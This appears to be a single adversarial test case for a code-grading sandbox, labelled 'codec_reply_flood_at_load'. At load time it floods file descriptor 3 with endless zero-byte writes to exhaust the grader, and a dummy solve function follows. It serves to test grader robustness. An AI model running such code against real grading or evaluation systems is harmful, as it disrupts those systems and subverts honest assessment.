# attack: codec_reply_flood_at_load
# kind: function
# attempts: floods the channel while it is being loaded
# sound verdict: incorrect|runtime_error|time_limit|output_limit
# host must: the grader's memory is bounded
# NEVER run outside a sandbox.
import os
while True: os.write(3, b"\x00" * 65536)
def solve(xs): return 0
